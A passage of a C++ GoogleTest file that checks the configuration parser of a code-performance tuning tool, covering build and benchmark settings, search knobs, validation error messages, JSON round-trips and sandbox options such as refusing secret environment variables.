#include "runner/core/config.h"

#include <gtest/gtest.h>

#include "support/test_support.h"

namespace maxcode {
namespace {

using nlohmann::json;

// The example of docs/configuration.md.
const char* kExample = R"({
  "build":      {"configure": "cmake -S . -B build -DCMAKE_BUILD_TYPE=Release", "command": "cmake --build build -j"},
  "test":       {"command": "ctest --test-dir build --output-on-failure", "timeout_s": 600},
  "benchmarks": [{"name": "main", "command": "./build/bench", "metric": "wall", "compare_output": true, "rtol": 1e-6}],
  "scope":      {"include": ["src/**"], "exclude": ["third_party/**"]},
  "targets":    {"functions": ["histogram"]},
  "search":     {"policy": "tune", "max_evaluations": 32},
  "acceptance": {"min_speedup": 1.05}
})";

// The smallest valid document; tests break one field of it at a time.
json minimal() {
  return json::parse(R"({
    "build": {"command": "make"},
    "test": {"command": "make test"},
    "benchmarks": [{"name": "main", "command": "./bench"}]
  })");
}

// The message of the ConfigError that parsing `document` throws, or "(no error)".
std::string error_of(const json& document) {
  try {
    parse_config(document, ".maxcode.json");
  } catch (const ConfigError& error) {
    return error.what();
  }
  return "(no error)";
}

const std::string kFile = ".maxcode.json: ";

TEST(ConfigTest, ParsesTheDocumentedExample) {
  Config config = parse_config(json::parse(kExample), ".maxcode.json");
  EXPECT_EQ(config.file, ".maxcode.json");
  EXPECT_EQ(config.build.configure, "cmake -S . -B build -DCMAKE_BUILD_TYPE=Release");
  EXPECT_EQ(config.build.command, "cmake --build build -j");
  EXPECT_EQ(config.build.timeout_s, 1800);
  EXPECT_EQ(config.test.command, "ctest --test-dir build --output-on-failure");
  EXPECT_EQ(config.test.timeout_s, 600);
  ASSERT_EQ(config.benchmarks.size(), 1u);
  EXPECT_EQ(config.benchmarks[0].name, "main");
  EXPECT_EQ(config.benchmarks[0].command, "./build/bench");
  EXPECT_EQ(config.benchmarks[0].metric, "wall");
  EXPECT_TRUE(config.benchmarks[0].compare_output);
  EXPECT_EQ(config.benchmarks[0].rtol, 1e-6);
  EXPECT_EQ(config.scope.include, std::vector<std::string>{"src/**"});
  EXPECT_EQ(config.scope.exclude, std::vector<std::string>{"third_party/**"});
  EXPECT_EQ(config.targets.functions, std::vector<std::string>{"histogram"});
  EXPECT_EQ(config.search.policy, SearchPolicy::kTune);
  EXPECT_EQ(config.search.max_evaluations, 32);
  EXPECT_EQ(config.acceptance.min_speedup, 1.05);
  EXPECT_TRUE(config.llm.is_null());
}

TEST(ConfigTest, MinimalDocumentGetsTheDefaults) {
  Config config = parse_config(minimal(), "x.json");
  Config expected;
  expected.file = "x.json";
  expected.build.command = "make";
  expected.test.command = "make test";
  expected.benchmarks = {BenchmarkConfig{.name = "main", .command = "./bench"}};
  EXPECT_EQ(config, expected);
  // Spelled out, so a changed default is a visible decision (and docs/configuration.md).
  EXPECT_EQ(config.build.timeout_s, 1800);
  EXPECT_EQ(config.test.timeout_s, 600);
  EXPECT_EQ(config.benchmarks[0].metric, "wall");
  EXPECT_TRUE(config.benchmarks[0].compare_output);
  EXPECT_EQ(config.benchmarks[0].rtol, 1e-6);
  EXPECT_EQ(config.benchmarks[0].atol, 0);
  EXPECT_EQ(config.benchmarks[0].timeout_s, 300);
  EXPECT_EQ(config.scope.include, std::vector<std::string>{"**"});
  EXPECT_TRUE(config.scope.exclude.empty());
  EXPECT_EQ(config.search.policy, SearchPolicy::kTune);
  EXPECT_EQ(config.search.max_evaluations, 32);
  EXPECT_EQ(config.search.batch, 4);
  EXPECT_EQ(config.search.seed, 1u);
  EXPECT_EQ(config.search.max_wall_s, 3600);
  EXPECT_EQ(config.acceptance.min_speedup, 1.05);
  EXPECT_EQ(config.acceptance.seeds, (std::vector<std::uint64_t>{1234567, 2718281, 3141592}));
  EXPECT_EQ(config.acceptance.warmup_rounds, 1);
  EXPECT_EQ(config.acceptance.min_rounds, 10);
  EXPECT_EQ(config.acceptance.max_rounds, 40);
  EXPECT_EQ(config.acceptance.max_timing_s, 120);
  EXPECT_EQ(config.acceptance.target_relative_width, 0.03);
  EXPECT_EQ(config.workspace.exclude, (std::vector<std::string>{"build", ".maxcode"}));
  EXPECT_EQ(config.workspace.output_cap_bytes, 16u << 20);
  EXPECT_TRUE(config.workspace.isolate);
}

TEST(ConfigTest, UnknownFieldSuggestsTheNearestKnownOne) {
  json doc = minimal();
  doc["build"]["comand"] = "make";
  EXPECT_EQ(error_of(doc), kFile + "build.comand: unknown field (did you mean 'command'?)");

  doc = minimal();
  doc["benchmarks"][0]["metrc"] = "wall";
  EXPECT_EQ(error_of(doc), kFile + "benchmarks[0].metrc: unknown field (did you mean 'metric'?)");

  doc = minimal();
  doc["search"] = {{"knobs", {{{"name", "B"}, {"valeus", {1}}}}}};
  EXPECT_EQ(error_of(doc),
            kFile + "search.knobs[0].valeus: unknown field (did you mean 'values'?)");

  doc = minimal();
  doc["benchmark"] = doc["benchmarks"];
  EXPECT_EQ(error_of(doc), kFile + "benchmark: unknown field (did you mean 'benchmarks'?)");
}

TEST(ConfigTest, UnknownFieldFarFromAnyListsTheKnownOnes) {
  json doc = minimal();
  doc["test"]["retries"] = 3;
  EXPECT_EQ(error_of(doc),
            kFile + "test.retries: unknown field (known fields: command, timeout_s)");
}

TEST(ConfigTest, WrongTypesNameExpectedAndGot) {
  struct Case {
    json::json_pointer where;
    json value;
    std::string message;
  };
  const std::vector<Case> cases = {
      {json::json_pointer("/build/timeout_s"), "600",
       "build.timeout_s: expected a number, got a string"},
      {json::json_pointer("/build"), nullptr, "build: expected an object, got null"},
      {json::json_pointer("/test/command"), 1, "test.command: expected a string, got a number"},
      {json::json_pointer("/benchmarks"), json::object(),
       "benchmarks: expected an array, got an object"},
      {json::json_pointer("/benchmarks/0/compare_output"), "yes",
       "benchmarks[0].compare_output: expected a boolean, got a string"},
      {json::json_pointer("/scope"), {{"include", {"src/**", 3}}},
       "scope.include[1]: expected a string, got a number"},
      {json::json_pointer("/search"), {{"max_evaluations", 1.5}},
       "search.max_evaluations: expected an integer, got 1.5"},
      {json::json_pointer("/search"), {{"batch", true}},
       "search.batch: expected an integer, got a boolean"},
      {json::json_pointer("/workspace"), {{"isolate", 1}},
       "workspace.isolate: expected a boolean, got a number"},
      {json::json_pointer("/llm"), "gpt", "llm: expected an object, got a string"},
  };
  for (const Case& c : cases) {
    json doc = minimal();
    doc[c.where] = c.value;
    EXPECT_EQ(error_of(doc), kFile + c.message) << c.where.to_string();
  }
}

TEST(ConfigTest, DocumentMustBeAnObject) {
  EXPECT_EQ(error_of(json::array()), kFile + "expected an object, got an array");
}

TEST(ConfigTest, RequiredFields) {
  json doc = minimal();
  doc.erase("build");
  EXPECT_EQ(error_of(doc), kFile + "build: missing required field");

  doc = minimal();
  doc["build"].erase("command");
  EXPECT_EQ(error_of(doc), kFile + "build.command: missing required field");

  doc = minimal();
  doc["test"]["command"] = "";
  EXPECT_EQ(error_of(doc), kFile + "test.command: must not be empty");

  doc = minimal();
  doc.erase("benchmarks");
  EXPECT_EQ(error_of(doc), kFile + "benchmarks: missing required field");

  doc = minimal();
  doc["benchmarks"] = json::array();
  EXPECT_EQ(error_of(doc), kFile + "benchmarks: must list at least one benchmark");

  doc = minimal();
  doc["benchmarks"].push_back({{"name", "second"}});
  EXPECT_EQ(error_of(doc), kFile + "benchmarks[1].command: missing required field");

  doc = minimal();
  doc["benchmarks"][0].erase("name");
  EXPECT_EQ(error_of(doc), kFile + "benchmarks[0].name: missing required field");
}

TEST(ConfigTest, BenchmarkNamesAreUnique) {
  json doc = minimal();
  doc["benchmarks"].push_back({{"name", "other"}, {"command", "./b"}});
  doc["benchmarks"].push_back({{"name", "main"}, {"command", "./c"}});
  EXPECT_EQ(error_of(doc),
            kFile + "benchmarks[2].name: duplicate name 'main' (also used by benchmarks[0])");
}

TEST(ConfigTest, OnlyWallKernelsAndGoogleBenchmarkMetricsAreSupported) {
  json doc = minimal();
  doc["benchmarks"][0]["metric"] = "cupti";
  EXPECT_EQ(error_of(doc), kFile + "benchmarks[0].metric: unsupported metric 'cupti' (supported: wall, kernels, "
                                   "google-benchmark)");
}

// A Google Benchmark program prints its times: its output is never compared.
TEST(ConfigTest, GoogleBenchmarkMetricComparesNoOutput) {
  json doc = minimal();
  doc["benchmarks"][0]["metric"] = "google-benchmark";
  Config config = parse_config(doc, ".maxcode.json");
  EXPECT_EQ(config.benchmarks[0].metric, "google-benchmark");
  EXPECT_FALSE(config.benchmarks[0].compare_output);
  EXPECT_FALSE(uses_gpu_timing(config));
  EXPECT_EQ(parse_config(to_json(config), ".maxcode.json"), config);
  doc["benchmarks"][0]["compare_output"] = true;
  EXPECT_EQ(error_of(doc), kFile + "benchmarks[0].compare_output: a Google Benchmark program prints its times, "
                                   "which differ on every run: set false (correctness comes from test.command)");
  doc["benchmarks"][0]["compare_output"] = false;
  doc["benchmarks"][0]["warmup_launches"] = 2;
  EXPECT_EQ(error_of(doc), kFile + "benchmarks[0].warmup_launches: only for \"metric\": \"kernels\"");
}

// A Google Benchmark program's own filter: a regex over entry names, round-tripped.
TEST(ConfigTest, GoogleBenchmarkFilterIsARegexForThatMetricOnly) {
  json doc = minimal();
  doc["benchmarks"][0]["metric"] = "google-benchmark";
  doc["benchmarks"][0]["filter"] = "^(BM_parse/8)$";
  Config config = parse_config(doc, ".maxcode.json");
  EXPECT_EQ(config.benchmarks[0].filter, "^(BM_parse/8)$");
  EXPECT_EQ(parse_config(to_json(config), ".maxcode.json"), config);
  doc["benchmarks"][0]["filter"] = "BM_(";
  EXPECT_NE(error_of(doc).find(kFile + "benchmarks[0].filter: not a regular expression"), std::string::npos)
      << error_of(doc);
  doc["benchmarks"][0]["metric"] = "wall";
  doc["benchmarks"][0]["filter"] = "BM_x";
  EXPECT_EQ(error_of(doc), kFile + "benchmarks[0].filter: only for \"metric\": \"google-benchmark\"");
}

TEST(ConfigTest, KernelsMetricFields) {
  json doc = minimal();
  doc["benchmarks"][0]["metric"] = "kernels";
  doc["benchmarks"][0]["kernels"] = {"^transpose", "tile<32>"};
  doc["benchmarks"][0]["warmup_launches"] = 2;
  doc["benchmarks"][0]["roofline"] = {{"bytes", 2.5e9}};
  Config c = parse_config(doc, ".maxcode.json");
  EXPECT_TRUE(uses_gpu_timing(c));
  EXPECT_EQ(c.benchmarks[0].kernels, (std::vector<std::string>{"^transpose", "tile<32>"}));
  EXPECT_EQ(c.benchmarks[0].warmup_launches, 2);
  EXPECT_EQ(c.benchmarks[0].roofline_bytes, 2.5e9);
  EXPECT_EQ(parse_config(to_json(c), ".maxcode.json"), c) << "the JSON form must parse back unchanged";
  EXPECT_FALSE(uses_gpu_timing(parse_config(minimal(), ".maxcode.json")));
}

TEST(ConfigTest, KernelsMetricErrors) {
  json doc = minimal();
  doc["benchmarks"][0]["metric"] = "kernels";
  doc["benchmarks"][0]["kernels"] = {"(unclosed"};
  EXPECT_NE(error_of(doc).find("benchmarks[0].kernels[0]: not a regular expression"), std::string::npos)
      << error_of(doc);
  doc["benchmarks"][0]["kernels"] = json::array();
  doc["benchmarks"][0]["roofline"] = {{"byte", 1}};
  EXPECT_NE(error_of(doc).find("benchmarks[0].roofline.byte: unknown field"), std::string::npos) << error_of(doc);
  json wall = minimal();
  wall["benchmarks"][0]["roofline"] = {{"bytes", 1}};
  EXPECT_EQ(error_of(wall), kFile + "benchmarks[0].roofline: only for \"metric\": \"kernels\"");
  json gpu = minimal();
  gpu["gpu"] = {{"sanitizer", {"memcheck", "leakcheck"}}};
  EXPECT_EQ(error_of(gpu), kFile + "gpu.sanitizer[1]: unsupported sanitizer tool 'leakcheck' (supported: "
                                   "memcheck, racecheck, synccheck, initcheck)");
}

TEST(ConfigTest, WitnessFields) {
  const Config defaults = parse_config(minimal(), ".maxcode.json");
  EXPECT_TRUE(defaults.gpu.witness);
  EXPECT_DOUBLE_EQ(defaults.gpu.witness_tolerance, 0.25);
  json doc = minimal();
  doc["gpu"] = {{"witness", false}, {"witness_tolerance", 0.4}};
  const Config c = parse_config(doc, ".maxcode.json");
  EXPECT_FALSE(c.gpu.witness);
  EXPECT_DOUBLE_EQ(c.gpu.witness_tolerance, 0.4);
  EXPECT_EQ(parse_config(to_json(c), ".maxcode.json"), c);
  doc["gpu"] = {{"witness_tolerance", 0}};
  EXPECT_EQ(error_of(doc), kFile + "gpu.witness_tolerance: must be > 0, got 0");
  doc["gpu"] = {{"witness_tolerance", 1.5}};
  EXPECT_EQ(error_of(doc), kFile + "gpu.witness_tolerance: must be <= 1, got 1.5");
  doc["gpu"] = {{"witness", "yes"}};
  EXPECT_EQ(error_of(doc), kFile + "gpu.witness: expected a boolean, got a string");
}

TEST(ConfigTest, NumbersOutOfRange) {
  struct Case {
    json::json_pointer where;
    json value;
    std::string message;
  };
  const std::vector<Case> cases = {
      {json::json_pointer("/build/timeout_s"), 0, "build.timeout_s: must be > 0, got 0"},
      {json::json_pointer("/test/timeout_s"), -1, "test.timeout_s: must be > 0, got -1"},
      {json::json_pointer("/benchmarks/0/timeout_s"), 0.0, "benchmarks[0].timeout_s: must be > 0, got 0.0"},
      {json::json_pointer("/benchmarks/0/rtol"), -1e-3, "benchmarks[0].rtol: must be >= 0, got -0.001"},
      {json::json_pointer("/benchmarks/0/atol"), -1, "benchmarks[0].atol: must be >= 0, got -1"},
      {json::json_pointer("/acceptance/min_speedup"), 0.9, "acceptance.min_speedup: must be >= 1, got 0.9"},
      {json::json_pointer("/acceptance/min_rounds"), 2, "acceptance.min_rounds: must be >= 3, got 2"},
      {json::json_pointer("/acceptance/warmup_rounds"), -1, "acceptance.warmup_rounds: must be >= 0, got -1"},
      {json::json_pointer("/acceptance/target_relative_width"), 0,
       "acceptance.target_relative_width: must be > 0, got 0"},
      {json::json_pointer("/search/max_evaluations"), 0, "search.max_evaluations: must be >= 1, got 0"},
      {json::json_pointer("/search/batch"), 0, "search.batch: must be >= 1, got 0"},
      {json::json_pointer("/search/max_evaluations"), 3000000000u,
       "search.max_evaluations: must be <= 2147483647, got 3000000000"},
      {json::json_pointer("/search/max_wall_s"), 0, "search.max_wall_s: must be > 0, got 0"},
      {json::json_pointer("/workspace/output_cap_bytes"), 0, "workspace.output_cap_bytes: must be >= 1, got 0"},
  };
  for (const Case& c : cases) {
    json doc = minimal();
    doc[c.where] = c.value;
    EXPECT_EQ(error_of(doc), kFile + c.message) << c.where.to_string();
  }
}

TEST(ConfigTest, WholeNumbersWrittenAsFloatsAreIntegers) {
  json doc = minimal();
  doc["search"] = {{"max_evaluations", 16.0}};
  EXPECT_EQ(parse_config(doc, "f").search.max_evaluations, 16);
}

TEST(ConfigTest, MaxRoundsMustNotBeBelowMinRounds) {
  json doc = minimal();
  doc["acceptance"] = {{"min_rounds", 20}, {"max_rounds", 12}};
  EXPECT_EQ(error_of(doc), kFile + "acceptance.max_rounds: must be >= min_rounds (20), got 12");
  doc["acceptance"] = {{"min_rounds", 50}};  // above the default max_rounds of 40
  EXPECT_EQ(error_of(doc), kFile + "acceptance.max_rounds: must be >= min_rounds (50), got 40");
}

TEST(ConfigTest, SeedsNeedThreeDistinctNonZeroIntegers) {
  json doc = minimal();
  doc["acceptance"] = {{"seeds", {1, 2}}};
  EXPECT_EQ(error_of(doc),
            kFile + "acceptance.seeds: need at least 3 distinct non-zero seeds, got 2");
  doc["acceptance"] = {{"seeds", {1, 0, 2}}};
  EXPECT_EQ(error_of(doc), kFile + "acceptance.seeds[1]: must be non-zero");
  doc["acceptance"] = {{"seeds", {1, 2, 1}}};
  EXPECT_EQ(error_of(doc), kFile + "acceptance.seeds[2]: duplicate seed 1");
  doc["acceptance"] = {{"seeds", {1, 2, "3"}}};
  EXPECT_EQ(error_of(doc), kFile + "acceptance.seeds[2]: expected an integer, got a string");
  doc["acceptance"] = {{"seeds", {1, 2, -3}}};
  EXPECT_EQ(error_of(doc), kFile + "acceptance.seeds[2]: must be >= 0, got -3");
  doc["acceptance"] = {{"seeds", {7, 8, 18446744073709551615u}}};
  EXPECT_EQ(parse_config(doc, "f").acceptance.seeds,
            (std::vector<std::uint64_t>{7, 8, 18446744073709551615u}));
}

TEST(ConfigTest, SearchPolicy) {
  json doc = minimal();
  doc["search"] = {{"policy", "llm"}};
  EXPECT_EQ(error_of(doc),
            kFile + "search.policy: unsupported policy 'llm' (supported: tune, replay, maxcode, cuda-llm, "
                    "effilearner)");
  doc["search"] = {{"policy", "maxcode"}, {"critic", "gpt"}};
  EXPECT_EQ(error_of(doc), kFile + "search.critic: unsupported critic 'gpt' (supported: auto, metrics, llm, none)");
  doc["search"] = {{"policy", "maxcode"}, {"proposals", 8}, {"batch", 2}, {"max_tokens", 100000},
                   {"max_dollars", 2.5}, {"reranker", "llm"}, {"trajectory_window", 4}};
  const SearchConfig search = parse_config(doc, "f").search;
  EXPECT_EQ(search.proposals, 8);
  EXPECT_EQ(search.max_tokens, 100000);
  EXPECT_DOUBLE_EQ(search.max_dollars, 2.5);
  EXPECT_EQ(search.reranker, RerankerChoice::kLlm);
  EXPECT_EQ(search.trajectory_window, 4);

  // replay_dir may come from the command line later, so the file need not name it.
  doc["search"] = {{"policy", "replay"}};
  EXPECT_EQ(parse_config(doc, "f").search.policy, SearchPolicy::kReplay);

  doc["search"] = {{"policy", "replay"}, {"replay_dir", "candidates/run1"}};
  EXPECT_EQ(parse_config(doc, "f").search.replay_dir, "candidates/run1");

  doc["search"] = {{"policy", "replay"}, {"replay_dir", "/abs"}};
  EXPECT_EQ(error_of(doc), kFile +
                               "search.replay_dir: must be relative to the repository root, "
                               "got '/abs'");
  doc["search"] = {{"replay_dir", 3}};
  EXPECT_EQ(error_of(doc), kFile + "search.replay_dir: expected a string, got a number");
}

TEST(ConfigTest, KnobValuesKeepTheirSourceSpelling) {
  json doc = minimal();
  doc["search"] = json::parse(R"({"knobs": [
      {"name": "BLOCK", "values": [64, 128, 256]},
      {"name": "kScale", "values": [0.5, 2.0, "1.5f", "4u", -1], "file": "src/k.cu"}]})");
  Config config = parse_config(doc, "f");
  ASSERT_EQ(config.search.knobs.size(), 2u);
  EXPECT_EQ(config.search.knobs[0].name, "BLOCK");
  EXPECT_EQ(config.search.knobs[0].values, (std::vector<std::string>{"64", "128", "256"}));
  EXPECT_EQ(config.search.knobs[0].file, "");
  EXPECT_EQ(config.search.knobs[1].values,
            (std::vector<std::string>{"0.5", "2.0", "1.5f", "4u", "-1"}));
  EXPECT_EQ(config.search.knobs[1].file, "src/k.cu");
}

TEST(ConfigTest, KnobErrors) {
  auto knob_error = [](const char* knobs) {
    json doc = minimal();
    doc["search"] = {{"knobs", json::parse(knobs)}};
    return error_of(doc);
  };
  EXPECT_EQ(knob_error(R"([{"name": "B", "values": []}])"),
            kFile + "search.knobs[0].values: must list at least one value");
  EXPECT_EQ(knob_error(R"([{"name": "B"}])"),
            kFile + "search.knobs[0].values: missing required field");
  EXPECT_EQ(knob_error(R"([{"values": [1]}])"),
            kFile + "search.knobs[0].name: missing required field");
  EXPECT_EQ(knob_error(R"([{"name": "B", "values": [1, true]}])"),
            kFile + "search.knobs[0].values[1]: expected a number or a string, got a boolean");
  EXPECT_EQ(knob_error(R"([{"name": "B", "values": [""]}])"),
            kFile + "search.knobs[0].values[0]: must not be empty");
  EXPECT_EQ(knob_error(R"([{"name": "2B", "values": [1]}])"),
            kFile + "search.knobs[0].name: '2B' is not a C/C++ identifier");
  EXPECT_EQ(knob_error(R"([{"name": "B", "values": [1]}, {"name": "B", "values": [2]}])"),
            kFile + "search.knobs[1].name: duplicate knob 'B' (also search.knobs[0])");
  EXPECT_EQ(knob_error(R"({"name": "B"})"),
            kFile + "search.knobs: expected an array, got an object");
}

TEST(ConfigTest, ScopeRules) {
  json doc = minimal();
  doc["scope"] = {{"include", json::array()}};
  EXPECT_EQ(error_of(doc), kFile + "scope.include: must list at least one glob");
  doc["scope"] = {{"exclude", {"/usr/**"}}};
  EXPECT_EQ(error_of(doc), kFile +
                               "scope.exclude[0]: must be relative to the repository root, "
                               "got '/usr/**'");
}

TEST(ConfigTest, TargetsUnit) {
  json doc = minimal();
  doc["targets"] = json::parse(R"({"functions": ["launch"], "unit": {"add": ["ns::helper"], "leave_out": ["slow"]}})");
  const Config config = parse_config(doc, "f");
  EXPECT_EQ(config.targets.unit.add, std::vector<std::string>{"ns::helper"});
  EXPECT_EQ(config.targets.unit.leave_out, std::vector<std::string>{"slow"});
  EXPECT_EQ(parse_config(minimal(), "f").targets.unit, UnitConfig{});

  doc["targets"]["unit"] = {{"ad", {"f"}}};
  EXPECT_EQ(error_of(doc), kFile + "targets.unit.ad: unknown field (did you mean 'add'?)");
  doc["targets"]["unit"] = {{"add", "helper"}};
  EXPECT_EQ(error_of(doc), kFile + "targets.unit.add: expected an array, got a string");
  doc["targets"]["unit"] = {{"leave_out", {"ok", "not a name()"}}};
  EXPECT_EQ(error_of(doc), kFile + "targets.unit.leave_out[1]: must be a function name (qualified allowed: "
                                   "ns::fn), got 'not a name()'");
  doc["targets"]["unit"] = {{"add", {"f", "g", "f"}}};
  EXPECT_EQ(error_of(doc), kFile + "targets.unit.add[2]: 'f' is listed twice");
  doc["targets"]["unit"] = {{"add", {"f"}}, {"leave_out", {"g", "f"}}};
  EXPECT_EQ(error_of(doc), kFile + "targets.unit.leave_out[1]: 'f' is also in targets.unit.add");
  doc["targets"]["unit"] = {{"add", {""}}};
  EXPECT_EQ(error_of(doc), kFile + "targets.unit.add[0]: must not be empty");
}

TEST(ConfigTest, LlmIsKeptAsGiven) {
  json doc = minimal();
  doc["llm"] = json::parse(R"({"provider": "openai", "anything": {"nested": [1, 2]}})");
  EXPECT_EQ(parse_config(doc, "f").llm, doc["llm"]);
}

// Every field away from its default, so a field that to_json forgets shows up here.
Config everything_set() {
  Config config;
  config.file = "full.json";
  config.build = {"cmake -S . -B b", "cmake --build b", 99.5};
  config.test = {"ctest", 77};
  config.benchmarks = {{"a", "./a", "wall", false, 1e-3, 1e-9, 12},
                       {"b", "./b --size 4", "wall", true, 0, 0.5, 1}};
  config.benchmarks[1].varying = {{"time: # ms (# ns per element)", 1}, {"rate: # GB/s", 0}};
  config.scope = {{"src/**", "include/**"}, {"src/gen/**"}};
  config.targets = {{"ns::histogram", "scale"}, "void(float*, int)"};
  config.targets.unit = {{"ns::reduce", "warp_sum"}, {"slow_path"}};
  config.search.policy = SearchPolicy::kReplay;
  config.search.max_evaluations = 7;
  config.search.batch = 2;
  config.search.replay_dir = "replays/x";
  config.search.knobs = {{"BLOCK", {"64", "128"}, "src/k.cu"}, {"kUnroll", {"2", "4.0f"}, ""}};
  config.search.seed = 18446744073709551615u;
  config.search.max_wall_s = 10;
  config.acceptance = {1.2, {5, 6, 7, 8}, 0, 3, 3, 0, 0.5};
  config.workspace = {{"out"}, 1024, false};
  config.llm = {{"provider", "command"}, {"command", "cat"}};
  return config;
}

TEST(ConfigTest, RoundTripsThroughJson) {
  Config full = everything_set();
  EXPECT_EQ(parse_config(to_json(full), "full.json"), full);

  Config minimal_config = parse_config(minimal(), "m.json");
  EXPECT_EQ(parse_config(to_json(minimal_config), "m.json"), minimal_config);
  EXPECT_FALSE(to_json(minimal_config).contains("llm"));
}

// `varying` names numbers never compared (timings), counted from 1 as the evaluator's
// messages count them; what cannot name one is an error that says what it should be.
TEST(ConfigTest, VaryingNamesALineShapeAndANumberFromOne) {
  json doc = minimal();
  doc["benchmarks"][0]["varying"] = json::parse(R"([{"line": "time: # ms", "number": 2}])");
  const std::vector<VaryingField> want{{"time: # ms", 1}};
  EXPECT_EQ(parse_config(doc, "f").benchmarks[0].varying, want);
  EXPECT_EQ(to_json(parse_config(doc, "f"))["benchmarks"][0]["varying"], doc["benchmarks"][0]["varying"]);

  doc["benchmarks"][0]["varying"][0]["number"] = 0;
  EXPECT_EQ(error_of(doc), kFile + "benchmarks[0].varying[0].number: must be >= 1, got 0");
  doc["benchmarks"][0]["varying"][0] = json::parse(R"({"line": "time: 3 ms", "number": 1})");
  EXPECT_EQ(error_of(doc), kFile +
                               "benchmarks[0].varying[0].line: a line shape with each number written '#', such "
                               "as \"time: # ms\"");
  doc["benchmarks"][0]["varying"][0] = json::parse(R"({"line": "time: # ms"})");
  EXPECT_EQ(error_of(doc), kFile + "benchmarks[0].varying[0].number: missing required field");
  doc["benchmarks"][0]["varying"][0] = json::parse(R"({"line": "time: # ms", "number": 1, "slot": 0})");
  EXPECT_EQ(error_of(doc), kFile + "benchmarks[0].varying[0].slot: unknown field (known fields: line, number)");
  doc["benchmarks"][0]["varying"] = json::parse(R"([{"line": "time: # ms", "number": 1}])");
  doc["benchmarks"][0]["compare_output"] = false;
  EXPECT_EQ(error_of(doc), kFile + "benchmarks[0].varying: only where the output is compared (compare_output true)");
}

TEST(ConfigTest, LoadsFromFile) {
  maxcode::testing::TempDir dir;
  testing::write_file(dir / ".maxcode.json", kExample);
  Config config = load_config(dir / ".maxcode.json");
  EXPECT_EQ(config.file, dir / ".maxcode.json");
  EXPECT_EQ(config.build.command, "cmake --build build -j");
  EXPECT_EQ(config.targets.functions, std::vector<std::string>{"histogram"});
}

TEST(ConfigTest, LoadErrorsNameTheFile) {
  maxcode::testing::TempDir dir;
  std::filesystem::path file = dir / ".maxcode.json";
  testing::write_file(file, R"({"build": {"command": "make", "timeout_s": "long"}})");
  try {
    load_config(file);
    FAIL() << "expected a ConfigError";
  } catch (const ConfigError& error) {
    EXPECT_EQ(error.what(),
              file.string() + ": build.timeout_s: expected a number, got a string");
  }
}

TEST(ConfigTest, MissingFile) {
  maxcode::testing::TempDir dir;
  std::filesystem::path file = dir / "absent.json";
  try {
    load_config(file);
    FAIL() << "expected a ConfigError";
  } catch (const ConfigError& error) {
    EXPECT_EQ(error.what(), file.string() + ": cannot read: No such file or directory");
  }
  try {
    load_config(dir.path());
    FAIL() << "expected a ConfigError";
  } catch (const ConfigError& error) {
    EXPECT_EQ(error.what(), dir.path().string() + ": cannot read: Is a directory");
  }
}

// `maxcode init` writes comments and a "$schema"; people add comments of their own.
TEST(ConfigTest, LoadsCommentsAndASchemaField) {
  maxcode::testing::TempDir dir;
  testing::write_file(dir / ".maxcode.json", R"(// written by hand
{
  "$schema": "https://maxcode.dev/schema/maxcode.schema.json",
  // How to build.
  "build": {"command": "make"},  /* a block comment */
  "test": {"command": "make test"},
  "benchmarks": [{"name": "main", "command": "./bench"}]  // trailing
}
)");
  Config config = load_config(dir / ".maxcode.json");
  EXPECT_EQ(config.build.command, "make");
  EXPECT_EQ(config.benchmarks[0].command, "./bench");
  json doc = minimal();
  doc["$schema"] = 3;
  EXPECT_EQ(error_of(doc), kFile + "$schema: expected a string, got a number");
  doc.erase("$schema");
  doc["$schemas"] = "x";
  EXPECT_EQ(error_of(doc), kFile + "$schemas: unknown field (did you mean '$schema'?)");
}

std::string load_error(const std::string& text) {
  maxcode::testing::TempDir dir;
  testing::write_file(dir / "c.json", text);
  try {
    load_config(dir / "c.json");
  } catch (const ConfigError& error) {
    std::string message = error.what();
    return message.substr(message.find("c.json: ") + 8);
  }
  return "(no error)";
}

TEST(ConfigTest, InvalidJsonGivesLineAndColumn) {
  EXPECT_EQ(load_error("{\n  \"build\": {\"command\": tru}\n}\n"),
            "invalid JSON at line 2, column 27: syntax error while parsing value - invalid "
            "literal; last read: '\"command\": tru}'");
  EXPECT_EQ(load_error("{\n\"a\": 1,\n}"),
            "invalid JSON at line 3, column 1: syntax error while parsing object key - "
            "unexpected '}'; expected string literal");
  EXPECT_EQ(load_error("{\"a\": 1\n"),
            "invalid JSON at line 2, column 1: syntax error while parsing object - unexpected "
            "end of input; expected '}'");
  EXPECT_EQ(load_error(""),
            "invalid JSON at line 1, column 1: syntax error while parsing value - unexpected "
            "end of input; expected '[', '{', or a literal");
}

}  // namespace
TEST(ConfigTest, TargetsInterfaceIsAProductOfNames) {
  json document = minimal();
  document["targets"] = {{"functions", {"blur"}}, {"interface", {{"in", "width*height"}, {"out", "width * 2"}}}};
  Config config = parse_config(document, ".maxcode.json");
  EXPECT_EQ(config.targets.interface.at("in"), "width*height");
  EXPECT_EQ(config.targets.interface.at("out"), "width * 2");
  document["targets"]["interface"] = {{"in", "width+1"}};
  const std::string error = error_of(document);
  EXPECT_NE(error.find("targets.interface.in"), std::string::npos) << error;
  EXPECT_NE(error.find("width+1"), std::string::npos) << error;
}

}  // namespace maxcode

namespace maxcode {
namespace {

TEST(ConfigEnvAllow, NamesAndPrefixesAreKeptAndSecretsRefused) {
  json document = minimal();
  document["workspace"] = {{"env_allow", {"OMP_NUM_THREADS", "MYLIB_*"}}};
  Config config = parse_config(document, ".maxcode.json");
  EXPECT_EQ(config.workspace.env_allow, (std::vector<std::string>{"OMP_NUM_THREADS", "MYLIB_*"}));
  EXPECT_EQ(to_json(config)["workspace"]["env_allow"], document["workspace"]["env_allow"]);

  document["workspace"]["env_allow"] = {"OMP_NUM_THREADS", "HF_TOKEN"};
  EXPECT_EQ(error_of(document),
            kFile + "workspace.env_allow[1]: names a secret ('HF_TOKEN'): candidates never see secrets");
  document["workspace"]["env_allow"] = {"NOT A NAME"};
  EXPECT_NE(error_of(document).find("workspace.env_allow[0]: must be a variable name"), std::string::npos)
      << error_of(document);
}

// Host paths the sandbox shows read-only: absolute, never climbing with '..'.
TEST(ConfigSandboxPaths, AbsolutePathsAreKeptAndOthersRefused) {
  json document = minimal();
  EXPECT_TRUE(parse_config(document, ".maxcode.json").workspace.sandbox_paths.empty());
  document["workspace"] = {{"sandbox_paths", {"/opt/toolchain", "/home/ci/.local"}}};
  Config config = parse_config(document, ".maxcode.json");
  EXPECT_EQ(config.workspace.sandbox_paths, (std::vector<std::string>{"/opt/toolchain", "/home/ci/.local"}));
  EXPECT_EQ(to_json(config)["workspace"]["sandbox_paths"], document["workspace"]["sandbox_paths"]);

  document["workspace"]["sandbox_paths"] = {"relative/dir"};
